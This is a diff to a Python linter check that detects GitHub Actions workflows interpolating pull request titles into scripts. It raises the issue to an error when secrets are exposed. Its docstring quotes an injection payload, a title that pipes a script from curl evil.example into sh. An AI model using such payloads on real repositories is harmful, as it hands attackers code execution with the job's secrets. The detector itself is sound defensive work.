@@ -11,7 +11,7 @@ from gatepost.doctor.expressions import expressions
 from gatepost.doctor.roles import Place, steps_of
 from gatepost.doctor.symptoms import SECURITY
 from gatepost.outcomes.values import Problem
-from gatepost.values import WARNING
+from gatepost.values import ERROR, WARNING
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -22,12 +22,18 @@ if TYPE_CHECKING:
 _SCRIPT = "actions/github-script"
 _AS_TEXT = re.compile(r"toJSON\s*\([^()]*\)", re.IGNORECASE)
 _COMMENT = re.compile(r"\s*#")
+_PRIVILEGED = "Anybody can run commands here, with the secrets of the repository and a token that may write."
+_PLAIN = (
+    "Whoever proposes a change runs commands in the job, with the rights of the job, but from a fork without secrets."
+)
 
 
 class GhTitleInjection(DoctorCheck):
     """A script has text of strangers in it, as the title of a pull request: what they write is executed.
 
     ## Symptom
+    Whoever writes that text runs commands in the job, with the rights that the job has.
+
     A title with a quote or a backtick makes the job fail, as in "fix: read `pyproject.toml`". And a title such as
     `x"; curl evil.example | sh; "` runs what it says, with the rights and the secrets of the job.
 
@@ -73,12 +79,14 @@ class GhTitleInjection(DoctorCheck):
 
 def _problem(place: Place, where: str, written: str, *, is_shell: bool) -> Problem:
     name = re.sub(r"\W+", "_", written.rpartition(".")[2]).upper().strip("_") or "TEXT"
+    is_privileged = has_secrets(place.workflow, written)
     use = f'`"${name}"`' if is_shell else f"`process.env.{name}`"
     return Problem(
         f"`{written}`, which a stranger writes, becomes a part of the script and is executed",
         where,
-        f"say `{name}: ${{{{ {written} }}}}` under `env` of the step, and {use} in the script",
-        "" if has_secrets(place.workflow, written) else WARNING,
+        f"write `{name}: ${{{{ {written} }}}}` under `env` of the step, and {use} in the script",
+        ERROR if is_privileged else WARNING,
+        why=_PRIVILEGED if is_privileged else _PLAIN,
     )
 
 
